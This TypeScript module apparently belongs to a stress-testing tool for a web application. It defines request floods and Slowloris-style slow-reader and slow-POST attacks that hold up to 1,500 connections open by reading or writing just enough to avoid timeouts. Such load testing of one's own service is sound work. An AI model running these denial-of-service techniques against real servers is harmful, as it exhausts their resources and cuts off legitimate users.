/** Attacks that only read: no session is needed for any of them. */
import { connect, type Socket } from 'node:net';
import { flood, questionOfHoles, type Assault } from './assault.ts';
import { Client } from './client.ts';
import { pipelined } from './pipeline.ts';

/** Asks for the largest file and hangs up when the answer begins. */
export const files: Assault = (target, over) => {
	const client = new Client(target.url, target.address, 100);
	return flood(50, over, async () => (await client.hangUp(target.file)) < 400).finally(() => client.close());
};

/** Asks for the dearest page there is. */
export const pages: Assault = (target, over) => pipelined(target, over, () => target.room);

/** Asks what is new where nothing is, which costs least, and is answered most often. */
export const since: Assault = (target, over) =>
	pipelined(target, over, () => `${target.room}/since?message=${target.newest}&change=0&holes=`);

/** Asks for as many separate holes as an address can name. */
export const holes: Assault = (target, over) => pipelined(target, over, (n) => questionOfHoles(target, n));

/** Connections at once. */
const SLOW_CONNECTIONS = 1_500;

/** Milliseconds after which a slow reader takes another 64 kB: the server ends a connection on which nothing moves. */
const SIP_MS = 15_000;

/** Asks for the dearest page over many connections, and reads just enough of it to keep them. */
export const slowReaders: Assault = (target, over) =>
	holdOpen(target, over, (socket, host) => {
		// Nothing listens to the data: Node reads as much as its buffer takes, and then no more.
		const sip = setInterval(() => void socket.read(), SIP_MS);
		socket.once('close', () => clearInterval(sip));
		for (let times = 0; times < 4; times++) socket.write(`GET ${target.room} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
	});

/** Begins many forms, and goes on with each by a byte every now and then. */
export const slowBodies: Assault = (target, over) =>
	holdOpen(target, over, (socket, host) => {
		socket.write(
			`POST /?/join HTTP/1.1\r\nHost: ${host}\r\nOrigin: http://${host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 400000\r\n\r\nname=`
		);
		const drip = setInterval(() => socket.write('x'), 500);
		socket.once('close', () => clearInterval(drip));
	});

/** Keeps as many connections open as it may; one that the server closes is opened again. */
async function holdOpen(
	target: Parameters<Assault>[0],
	over: () => boolean,
	begin: (socket: Socket, host: string) => void
): ReturnType<Assault> {
	const { hostname, port, host } = new URL(target.url);
	const open = new Set<Socket>();
	try {
		return await flood(SLOW_CONNECTIONS, over, async () => {
			const socket = connect({ host: hostname, port: Number(port), localAddress: target.address });
			open.add(socket);
			const ended = new Promise<void>((resolve) => socket.once('close', () => resolve()));
			socket.on('error', () => {});
			socket.once('connect', () => begin(socket, host));
			while (!over() && !socket.destroyed) await Promise.race([ended, new Promise((later) => setTimeout(later, 100))]);
			const held = !socket.destroyed;
			if (!held) await new Promise((again) => setTimeout(again, 200));
			socket.destroy();
			open.delete(socket);
			return held;
		});
	} finally {
		for (const socket of open) socket.destroy();
	}
}
